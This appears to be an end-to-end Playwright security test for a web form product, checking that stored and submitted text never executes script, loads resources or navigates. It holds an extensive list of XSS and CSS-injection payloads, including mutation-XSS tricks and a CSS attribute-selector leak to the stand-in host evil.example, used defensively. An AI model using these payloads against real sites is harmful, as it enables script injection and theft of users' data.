import { randomUUID } from "node:crypto";
import type { Page } from "@playwright/test";
import { setForceClosed } from "#core/contracts/settings.ts";
import { previewPath } from "#core/contracts/wire/paths/private.ts";
import { submitPath } from "#core/contracts/wire/paths.ts";
import { FormSketch } from "#local/seed/form-draft.ts";
import { query } from "../database.ts";
import { type CloudAddresses, expect, test } from "../journey.ts";
import { cookiesOf } from "../owner.ts";
import { openForm } from "../respondent-form.ts";

/** Any request to this host comes from content that must not be on the page. */
const EVIL = "https://evil.example";

/** Known injection payloads. `n` identifies the one that ran. */
const MARKUP = [
  `<script>pwned(1)</script>`,
  `<script src="${EVIL}/2.js"></script>`,
  `<img src="x" onerror="pwned(3)">`,
  `<svg onload="pwned(4)"><foreignObject><iframe srcdoc="<script>parent.pwned(5)</script>"></iframe></foreignObject></svg>`,
  `<iframe src="${EVIL}/frame"></iframe><iframe src="javascript:parent.pwned(6)"></iframe>`,
  `<xmp><img title="</xmp><img src=x onerror=pwned(7)>"></xmp>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned(8)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=pwned(9)>"></noscript>`,
  `<template><script>pwned(10)</script></template>`,
  `<form action="${EVIL}/form"><button>Send</button></form><input autofocus onfocus="pwned(11)">`,
  `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/meta">`,
  `<link rel="stylesheet" href="${EVIL}/link.css"><style>@import "${EVIL}/style.css"</style>`,
  `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<video src="javascript:pwned(12)" onerror="pwned(13)"></video><audio src="${EVIL}/audio"></audio>`,
  `<p style="background:url(${EVIL}/style)">styled</p>`,
  `<a href="javascript:pwned(14)">one</a><a href="jav&#x0A;ascript:pwned(15)">two</a>`,
  `<a href="data:text/html,<script>pwned(16)</script>">three</a><a href="vbscript:pwned(17)">four</a>`,
  `<details open ontoggle="pwned(18)"><summary>five</summary></details>`,
  `</textarea></title></style></script><script>pwned(19)</script>`,
].join("");

/** Harmless until its variables are replaced, by empty texts and by the visitor's answers. */
const FILLED_IN = [
  `<a href="java{{fields.nothing}}script:pwned(22)">six</a><a href="{{fields.name}}">seven</a>`,
  `<img alt="" src="/{{fields.nothing}}/evil.example/eight"><a href="/{{fields.nothing}}/evil.example">eight</a>`,
  `<a title="{{" href="/x">}}" autofocus onfocus="pwned(23)" tabindex="0" "</a>`,
].join("");

const CSS = [
  `.label { background: url("${EVIL}/css-url"); --x: image-set("${EVIL}/css-set" 1x) }`,
  `.label { background-image: u\\72l(${EVIL}/css-escape) }`,
  `@import "${EVIL}/css-import";`,
  `@font-face { font-family: evil; src: url(${EVIL}/css-font) }`,
  `* { font-family: evil !important }`,
  `input[value^="s"] { background: url(${EVIL}/css-leak) }`,
  `.powered-by { position: fixed; inset: 0; background: red }`,
  `</style><script>pwned(20)</script><style>`,
  `.a { content: "</style><script>pwned(21)</script>" }`,
].join("\n");

const ADDRESSES = {
  image: "javascript:pwned(30)",
  video: "javascript:pwned(31)//a.mp4",
  pdf: "data:text/html,<script>pwned(32)</script>",
  option: "javascript:pwned(33)",
  redirect: "javascript:pwned(34)",
};

/** Every text of a form that an owner writes, each with a payload. */
function hostileSketch(): FormSketch {
  const form = new FormSketch(`Hostile ${MARKUP}`.slice(0, 200));
  form.section();
  form.header(MARKUP, MARKUP);
  form.html(MARKUP);
  form.field({
    name: "name",
    type: "text",
    label: MARKUP,
    placeholder: `"><img src=x onerror=pwned(40)>`,
    help_text: MARKUP,
  });
  form.choice(
    { name: "pick", type: "radio", label: "Pick" },
    { a: MARKUP.slice(0, 1_500), "group:": { b: "B" } },
  );
  form.field({ name: "answer", type: "textarea", label: "Answer" });
  return form;
}

/**
 * Stored directly, as if from before the sanitizer existed, without the checks of a write. Resolves when the edge has the
 * form as the database has it: until then, a page reloads itself once.
 */
async function storeBehindTheRules(cloud: CloudAddresses, form_id: string, path: string): Promise<void> {
  const sql = (text: string, ...values: unknown[]) =>
    query(cloud.connectionString, text, [form_id, ...values]);
  const group = randomUUID();
  await sql(
    `INSERT INTO form_block (id, form_id, type, local_index, title_html, description_html, parent_id)
     VALUES ($2, $1, 'group', 40, $3, $3, (SELECT id FROM form_block WHERE form_id = $1 AND type = 'section'))`,
    group,
    MARKUP,
  );
  for (const [index, type] of (["image", "video", "pdf"] as const).entries()) {
    await sql(
      `INSERT INTO form_block (id, form_id, type, parent_id, local_index, src, data)
       VALUES (gen_random_uuid(), $1, $2, $3, $4, $5, $6)`,
      ...[type, group, 50 + index, ADDRESSES[type], JSON.stringify({ src: ADDRESSES[type], alt: MARKUP })],
    );
  }
  await sql(
    `UPDATE form_block SET title_html = coalesce(title_html, '') || $2, body_html = coalesce(body_html, '') || $2,
       description_html = coalesce(description_html, '') || $2 WHERE form_id = $1`,
    MARKUP,
  );
  await sql(
    `UPDATE "option" SET src = $2 WHERE form_field_id IN (SELECT id FROM attribute WHERE form_id = $1)`,
    ADDRESSES.option,
  );
  await sql(
    `UPDATE form_document SET stylesheet = $2, background = $3, start_page = $4, redirect_after_response_uri = $5,
       is_redirect_after_response_uri_enabled = true, is_ending_page_enabled = true,
       ending_page_template_id = 'default', ending_page_i18n_overrides = $6 WHERE form_id = $1`,
    JSON.stringify({
      palette: "</style><script>pwned(50)</script>",
      appearance: '"><script>pwned(51)</script>',
      "font-family": `x;}</style><img src=x onerror=pwned(52)>`,
      section: '" onclick="pwned(53)',
      custom: CSS,
    }),
    JSON.stringify({ type: "background", element: "iframe", src: `javascript:parent.pwned(54)` }),
    JSON.stringify({
      template_id: "005",
      title: MARKUP,
      subtitle: MARKUP,
      body_html: MARKUP,
      background: { src: "javascript:pwned(55)", alt: MARKUP },
      media: [
        { src: `data:text/html,<script>pwned(56)</script>`, alt: MARKUP },
        { src: `//${EVIL}`, alt: "" },
      ],
    }),
    ADDRESSES.redirect,
    JSON.stringify({
      template_id: "default",
      overrides: {
        h1: `Thanks {{fields.name}}{{{fields.name}}} ${MARKUP}`,
        p: `{{fields.answer}} ${MARKUP}${FILLED_IN}`,
        button: `Go ${MARKUP}${FILLED_IN}`,
        href: "{{fields.name}}",
      },
    }),
  );
  const readPage = async () => (await fetch(new URL(path, cloud.origin))).text();
  await expect.poll(readPage).not.toContain('id="form-updated"');
}

/** Records every sign of an injection on a page: scripts that ran, dialogs, requests, policy reports. */
async function watch(page: Page): Promise<() => Promise<string[]>> {
  const seen: string[] = [];
  await page.exposeFunction("pwned", (n: number) => void seen.push(`script ${n} ran`));
  await page.exposeFunction("reported", (what: string) => void seen.push(`policy: ${what}`));
  await page.addInitScript(() => {
    const report = (window as unknown as { reported(what: string): void }).reported;
    document.addEventListener("securitypolicyviolation", (event) =>
      report(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`),
    );
  });
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (new URL(request.url()).host.includes("evil")) seen.push(`request: ${request.url()}`);
  });
  page.on("pageerror", (error) => seen.push(`error: ${error.message}`));
  return async () => {
    const links = await page.evaluate(() => {
      const schemes = [
        ...document.querySelectorAll("[href], [src], [action], [data], [srcdoc], [formaction]"),
      ]
        .flatMap((element) =>
          ["href", "src", "action", "data", "formaction"].map((name) => element.getAttribute(name)),
        )
        .filter((address) => address && /^\s*(?:javascript|data|vbscript):/i.test(address));
      const handlers = [...document.querySelectorAll("*")].flatMap((element) =>
        [...element.attributes].filter(({ name }) => /^on|^srcdoc$/.test(name)).map(({ name }) => name),
      );
      const strangers = [
        ...document.querySelectorAll("script:not([nonce]), base, meta[http-equiv], object, embed"),
      ];
      return [...schemes, ...handlers, ...strangers.map(({ outerHTML }) => outerHTML)].map(String);
    });
    return [...seen, ...links];
  };
}

// Proves attack/script-addresses, attack/redirect
test("no text from an owner or a visitor runs code, loads or navigates on the public pages", async ({
  page,
  cloud,
}) => {
  const { form_id, path, owner } = await openForm(cloud, hostileSketch());
  await storeBehindTheRules(cloud, form_id, path);
  const found = await watch(page);

  await page.goto(path);
  await expect(page.locator("main.start-page h1")).toContainText("<script>pwned(1)</script>");
  expect(await found()).toEqual([]);
  await page.getByRole("link", { name: "Register" }).click();
  await expect(page.getByLabel("Answer")).toBeVisible();
  for (const link of await page.locator("main a:visible").all()) {
    const href = (await link.getAttribute("href")) ?? "#";
    expect(href, await link.innerText()).toMatch(/^(?:#|\/|https?:)/);
  }
  const footer = page.getByRole("contentinfo");
  await expect(footer).toBeVisible();
  expect(await footer.evaluate((element) => getComputedStyle(element).position)).toBe("static");
  expect(await found()).toEqual([]);

  await page.locator("[name=name]").fill(`javascript:pwned(60)`);
  await page.getByLabel("Answer").fill(`${MARKUP}{{form_title}}{{{fields.name}}}</textarea>`);
  await page.getByRole("button", { name: "Submit" }).click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Thanks");
  await expect(page.locator("main")).toContainText("<script>pwned(1)</script>");
  await expect(page.getByRole("link", { name: "Go" })).toHaveCount(0);
  expect(await found()).toEqual([]);

  await owner.client.call(setForceClosed, { body: { form_id, closed: true } });
  await page.goto(`${path}/formclosed?oops=${encodeURIComponent(MARKUP.slice(0, 500))}`);
  await expect(page.getByRole("heading", { name: "Form closed" })).toBeVisible();
  expect(await found()).toEqual([]);
});

// Proves attack/owner-markup
test("nor does any refused, prefilled or previewed text", async ({ page, cloud, context }) => {
  const { form_id, path, owner } = await openForm(cloud, hostileSketch());
  await storeBehindTheRules(cloud, form_id, path);
  const found = await watch(page);
  const answer = MARKUP.slice(0, 1_000);
  await page.goto(
    `${path}?name=${encodeURIComponent(answer)}&answer=${encodeURIComponent(answer)}#form-view`,
  );
  await expect(page.getByLabel("Answer")).toHaveValue(answer);
  expect(await found()).toEqual([]);

  // A choice that does not exist makes the server show the answers again.
  await page.evaluate((action) => {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action, enctype: "multipart/form-data" });
    form.innerHTML = '<input name="pick" value="nothing"><textarea name="answer"></textarea>';
    (form.elements.namedItem("answer") as HTMLTextAreaElement).value =
      "</textarea><script>pwned(61)</script>";
    document.body.append(form);
    form.submit();
  }, submitPath(form_id));
  await expect(page.getByLabel("Answer")).toHaveValue("</textarea><script>pwned(61)</script>");
  expect(await found()).toEqual([]);

  await context.addCookies(cookiesOf(owner).map((cookie) => ({ ...cookie, url: cloud.origin })));
  await page.goto(previewPath(form_id));
  await page.getByRole("link", { name: "Register" }).click();
  await expect(page.getByLabel("Answer")).toBeVisible();
  expect(await found()).toEqual([]);

  await test.step("the recorder detects each kind of sign", async () => {
    await page.evaluate((evil) => {
      document.body.insertAdjacentHTML(
        "beforeend",
        `<img src=x onerror="pwned(1)"><a href="javascript:1">x</a>`,
      );
      document.body.append(Object.assign(document.createElement("iframe"), { src: `${evil}/frame` }));
    }, EVIL);
    for (const sign of ["policy: script-src-attr", "policy: frame-src", "javascript:1", "onerror"]) {
      await expect.poll(async () => (await found()).join("\n")).toContain(sign);
    }
  });
});
